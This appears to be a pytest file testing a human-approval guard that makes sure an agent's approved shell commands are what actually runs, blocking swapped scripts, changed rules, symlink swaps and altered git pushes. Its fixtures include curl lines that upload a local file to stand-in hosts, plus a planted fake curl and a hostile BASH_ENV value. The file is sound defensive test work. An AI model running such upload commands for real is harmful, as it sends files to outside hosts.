"""Approved commands through a real daemon, its hooks and the real launcher: what runs is what was approved."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import AGENT, Guard, allowed
from interlock.daemon.client import call
from interlock.daemon.wire import Reply
from prover.proofs import prove_folder

LAUNCHER = Path(AGENT[3]).with_name("interlock-run")
pytestmark = pytest.mark.skipif(not LAUNCHER.is_file(), reason="no launcher: there was no C compiler at installation")

DEPLOY = (
    "#!/bin/sh\necho deployed > ../deployed\nif [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi\n"
)


@pytest.fixture
def project(guard: Guard) -> Path:
    """A project with a script that a person is asked about."""
    subprocess.run(["git", "init", "-q", str(guard.project)], check=True)
    script = guard.project / "deploy.sh"
    script.write_text(DEPLOY)
    script.chmod(0o755)
    (guard.project / "report.txt").write_text("all is well\n")
    return guard.project


def rewritten(reply: Reply) -> str:
    inside = json.loads(reply.stdout)["hookSpecificOutput"]
    assert inside["permissionDecision"] == "allow"
    return str(inside["updatedInput"]["command"])


def run(guard: Guard, command: str, **env: str) -> subprocess.CompletedProcess[str]:
    """As the agent's shell would."""
    return subprocess.run(
        ["bash", "-c", command], cwd=guard.project, env=guard.environment | env, capture_output=True, text=True,
        timeout=60, check=False,
    )  # fmt: skip


def approved(guard: Guard, command: str, **more: Any) -> str:
    """What the agent is told to run in its place, after a person's yes."""
    guard.said_no(guard.hook("Bash", {"command": command}, **more))
    asked = call(guard.home, "inbox")[-1]
    call(guard.home, "approve", {"id": asked["id"], "code": asked["fingerprint"].rsplit("-", 1)[1]})
    return rewritten(guard.hook("Bash", {"command": command}, **more))


def test_a_yes_lets_interlock_start_it_once_with_everything_it_needs(guard: Guard, project: Path) -> None:
    command = approved(guard, "./deploy.sh; echo done; exit 3")
    assert "--bound" in command
    assert not guard.entries("intent")
    done = run(guard, command)
    assert (done.returncode, done.stdout, done.stderr) == (3, "done\n", "")
    assert (guard.base / "user" / "deployed").read_text() == "deployed\n"
    (intent,) = guard.entries("intent")
    assert intent["body"]["binding"] == {"launch": "interlock"}
    again = run(guard, command)
    assert (again.returncode, again.stdout) == (125, "")
    assert "ticket" in again.stderr


def test_the_persons_words_go_with_it(guard: Guard, project: Path) -> None:
    guard.said_no(guard.hook("Bash", {"command": "./deploy.sh"}))
    (asked,) = call(guard.home, "inbox")
    code = asked["fingerprint"].rsplit("-", 1)[1]
    assert guard.cli("approve", str(asked["id"]), "--code", code, "--but", "only today").returncode == 0
    answer = json.loads(guard.hook("Bash", {"command": "./deploy.sh"}).stdout)["hookSpecificOutput"]
    assert "only today" in answer["additionalContext"]


@pytest.mark.parametrize("when", ["before the hook answers", "before the launch"])
def test_a_script_that_is_swapped_after_the_yes_does_not_run(guard: Guard, project: Path, when: str) -> None:
    evil = DEPLOY.replace("deployed", "owned")
    if when == "before the hook answers":
        guard.said_no(guard.hook("Bash", {"command": "./deploy.sh"}))
        (asked,) = call(guard.home, "inbox")
        call(guard.home, "approve", {"id": asked["id"], "code": asked["fingerprint"].rsplit("-", 1)[1]})
        (project / "deploy.sh").write_text(evil)
        guard.said_no(guard.hook("Bash", {"command": "./deploy.sh"}))
        return
    command = approved(guard, "./deploy.sh")
    (project / "deploy.sh").write_text(evil)
    done = run(guard, command)
    assert (done.returncode, done.stdout) == (125, "")
    assert "something changed that it depends on" in done.stderr
    assert not (guard.base / "user" / "owned").exists()
    assert not guard.entries("intent", "approval.use")
    assert guard.entries("denial")[-1]["body"]["text"] == "./deploy.sh"


FORBID = (
    '@id("mine") @why("a test") @tier("4") @matches("send host x.example @production +known") '
    'forbid (principal, action == Interlock::Action::"send", resource) when { resource.kind == "host" };'
)


def add_policy(guard: Guard) -> None:
    folder = guard.home.config / "policy"
    folder.mkdir(parents=True)
    (folder / "own.cedar").write_text(FORBID)
    prove_folder(folder, "user")


def add_freeze(guard: Guard) -> None:
    guard.configure('[ask]\nhold_seconds = 0\n[[freeze]]\nreason = "the sale"\n')


def add_rules(guard: Guard) -> None:
    guard.configure('known_hosts = ["unknown.example"]\n[ask]\nhold_seconds = 0\n')


@pytest.mark.parametrize("change", [add_policy, add_freeze, add_rules])
def test_rules_that_change_after_the_yes_count_at_the_start(
    guard: Guard, project: Path, change: Callable[[Guard], None]
) -> None:
    """Not half a second later, when the daemon looks at its files anyway: the launch looks itself."""
    command = approved(guard, "./deploy.sh")
    change(guard)
    done = run(guard, command)
    assert (done.returncode, done.stdout) == (125, ""), done
    assert not (guard.base / "user" / "deployed").exists()


def test_the_environment_is_that_of_the_hook(guard: Guard, project: Path) -> None:
    (project / "bin").mkdir()
    (project / "bin" / "curl").write_text("#!/bin/sh\necho evil\n")
    (project / "bin" / "curl").chmod(0o755)
    command = approved(guard, "curl -s -T report.txt https://unknown.invalid; echo $BASH_ENV:$OTHER")
    done = run(guard, command, PATH=f"{project}/bin:/usr/bin:/bin", BASH_ENV="/evil", OTHER="kept")
    assert done.stdout == ":kept\n"


def test_the_person_is_told_what_stays_open(guard: Guard, project: Path) -> None:
    tool = guard.base / "user" / "tool"
    tool.write_text("#!/bin/sh\ncurl -T report.txt https://unknown.example\n")
    tool.chmod(0o755)
    guard.said_no(guard.hook("Bash", {"command": f"{tool}"}))
    (asked,) = call(guard.home, "inbox")
    assert any("outside of the project" in line for line in asked["beware"])
    assert "agent_spawns" not in asked or not asked["agent_spawns"]
    guard.said_no(guard.hook("Write", {"file_path": str(guard.base / "user" / "notes.txt"), "content": "x"}))
    assert call(guard.home, "inbox")[-1]["agent_spawns"] is True


def test_a_working_directory_behind_a_link_that_is_swapped(guard: Guard, project: Path) -> None:
    for name, text in (("one", DEPLOY), ("two", DEPLOY.replace("deployed", "owned"))):
        (project / name).mkdir()
        (project / name / "deploy.sh").write_text(text)
    link = project / "current"
    link.symlink_to("one")
    command = approved(guard, "sh deploy.sh", cwd=str(link))
    link.unlink()
    link.symlink_to("two")
    done = run(guard, command)
    assert done.returncode == 125
    link.unlink()
    link.symlink_to("one")
    command = approved(guard, "sh deploy.sh", cwd=str(link))
    assert run(guard, command).returncode == 0
    assert (project / "deployed").read_text() == "deployed\n"


def test_what_a_push_takes_along_is_what_was_approved(guard: Guard, project: Path) -> None:
    remote = guard.base / "remote.git"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(project)]
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    subprocess.run([*git, "checkout", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "one"], check=True)
    subprocess.run([*git, "remote", "add", "origin", str(remote)], check=True)
    first = subprocess.run([*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout
    command = approved(guard, "git push origin main")
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "two"], check=True)
    done = run(guard, command)
    assert done.returncode == 125, done
    subprocess.run([*git, "reset", "-q", "--hard", first.strip()], check=True)
    done = run(guard, approved(guard, "git push origin main"))
    assert done.returncode == 0, done.stderr
    pushed = subprocess.run(["git", "-C", str(remote), "rev-parse", "main"], check=True, capture_output=True, text=True)
    assert pushed.stdout == first
    assert os.path.exists(project / ".git/refs/remotes/origin/main")


def test_a_plan_file_is_bound(guard: Guard, project: Path) -> None:
    (project / "tools").mkdir()
    (project / "x.plan").write_bytes(b"\0good")
    command = approved(guard, "terraform apply x.plan")
    (project / "x.plan").write_bytes(b"\0evil")
    assert run(guard, command).returncode == 125
    assert allowed(guard.hook("Bash", {"command": "ls"}))
